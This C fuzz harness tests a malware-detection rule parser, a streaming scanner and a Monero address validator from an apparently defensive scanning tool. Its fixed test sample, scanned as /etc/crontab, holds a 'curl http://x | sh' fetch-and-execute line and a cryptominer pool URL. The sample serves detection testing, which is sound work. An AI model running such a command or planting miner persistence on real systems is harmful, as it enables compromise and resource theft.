/* fuzz_rules.c: the rule-file parser and compiler on hostile text, then the
 * compiled rules over a sample and over the input itself in chunks whose
 * size comes from the input; also the Monero address validator. */
#include <stdint.h>
#include <string.h>

#include "analyze/rules.h"

static int on_hit(void *arg, const struct ivet_rule_hit *h, struct ivet_err *err)
{
    (void)err;
    size_t *n = arg;
    *n += h->count > 0 && h->rule != NULL;
    return 0;
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    struct ivet_err err = IVET_ERR_INIT;
    (void)ivet_monero_address_valid((const char *)data, size);
    if (size < 1 || size > 16384)
        return 0;
    size_t chunk = 1u + data[0];
    struct ivet_ruleset *rs = ivet_rules_new(&err);
    if (rs && ivet_rules_parse(rs, (const char *)data + 1, size - 1, "fuzz.rules", NULL, &err) == 0 &&
        ivet_rules_compile(rs, &err) == 0) {
        static const char sample[] = "#!/bin/sh\ncurl http://x | sh\nstratum+tcp://pool:3333\n";
        size_t hits = 0;
        (void)ivet_rules_scan_buffer(rs, "/etc/crontab", sample, sizeof(sample) - 1, 0, on_hit, &hits, &err);
        ivet_err_release(&err);
        struct ivet_rules_stream *st = ivet_rules_stream_new(rs, &err);
        if (st && ivet_rules_stream_begin(st, "/x", 4096, &err) == 0) {
            for (size_t o = 0; o < size; o += chunk)
                if (ivet_rules_stream_data(st, data + o, size - o < chunk ? size - o : chunk, &err) < 0)
                    break;
            (void)ivet_rules_stream_end(st, on_hit, &hits, &err);
        }
        ivet_rules_stream_free(st);
    }
    ivet_rules_free(rs);
    ivet_err_release(&err);
    return 0;
}
